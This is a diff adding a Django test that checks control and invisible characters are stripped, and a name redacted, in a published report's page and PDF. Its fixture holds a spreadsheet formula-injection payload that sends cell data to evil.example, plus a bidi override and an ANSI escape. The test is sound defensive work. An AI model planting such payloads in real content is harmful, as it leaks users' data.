@@ -19,7 +19,7 @@ from django.test import TestCase
 from django.urls import reverse
 
 from actions import services as plan_services
-from actions.models import ExecRole, Role, Status
+from actions.models import ExecRole, Role, Status, WeeklyUpdate
 from reporting import tasks
 from reporting.models import (
     Publication,
@@ -28,7 +28,7 @@ from reporting.models import (
     PublicationWithdrawal,
 )
 from reporting.publication import services
-from reporting.publication.content import DEFAULT_FIELDS
+from reporting.publication.content import DEFAULT_FIELDS, strings_of
 from reporting.publication.glossary import DEFAULT_GLOSSARY
 from tests.factories import ActionFactory, UserFactory
 from tests.races import WAIT, Holder, Worker, blocked_behind
@@ -210,6 +210,56 @@ def test_narratives_are_left_out_unless_the_pmo_chooses_them(plan, pmo, actions,
     assert chosen.content["actions"][0]["latest_update"]["narrative"] == (
         "Two trainers off sick; catch-up sessions booked."
     )
+
+
+# Characters that must not reach the public: controls (but tab and line breaks), direction
+# overrides, zero-width characters, soft hyphens and byte-order marks.
+UNSAFE = re.compile(
+    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u00ad\u200b-\u200f\u202a-\u202e"
+    "\u2060-\u2064\u2066-\u2069\ufeff]"
+)
+
+
+@requires_pdftotext
+def test_control_and_invisible_characters_come_out_of_the_public_page_and_pdf(
+    client, plan, pmo, actions, lead, tmp_path
+):
+    m1 = actions[0]
+    m1.requirement = (
+        '\x01=HYPERLINK("http://evil.example/?"&A1,"click") CTG\u202e\x1b[31m training.'
+    )
+    m1.save()
+    period = plan_services.period_current(plan=plan, now=london(2026, 11, 16, 9))
+    update = plan_services.update_submit(
+        action=m1,
+        period=period,
+        author=lead,
+        status=Status.AMBER,
+        narrative="On plan",
+        now=london(2026, 11, 16, 10),
+    )
+    # As an older release could have stored it: a name cut by invisible characters.
+    WeeklyUpdate.objects.filter(pk=update.pk).update(
+        narrative="Chased by Hel\u200ben Car\u00adter\u200d\x07 today.\ufeff"
+    )
+    save_settings(
+        plan, pmo, fields=[*DEFAULT_FIELDS, "latest_update"], highlights="Training\x0c booked."
+    )
+    publication = publish(plan, pmo)
+
+    strings = strings_of(publication.content)
+    assert not [s for s in strings if UNSAFE.search(s)]
+    m1_row = publication.content["actions"][0]
+    assert m1_row["requirement"] == '=HYPERLINK("[link removed]?"&A1,"click") CTG[31m training.'
+    assert m1_row["latest_update"]["narrative"] == "Chased by Director of Nursing (DoN) today."
+    assert publication.content["summary"]["highlights"] == "Training booked."
+    html = client.get(publication.get_absolute_url()).content.decode()
+    text = pdf_text(bytes(publication.pdf), tmp_path).replace("\f", "\n")  # page breaks
+    for shown in (html, text):
+        assert not UNSAFE.search(shown)
+        assert "Helen" not in shown and "Carter" not in shown
+    assert "Chased by Director of Nursing (DoN) today." in text
+    assert "Training booked." in text
 
 
 def test_a_double_click_on_publish_makes_one_publication(client, plan, pmo, actions):
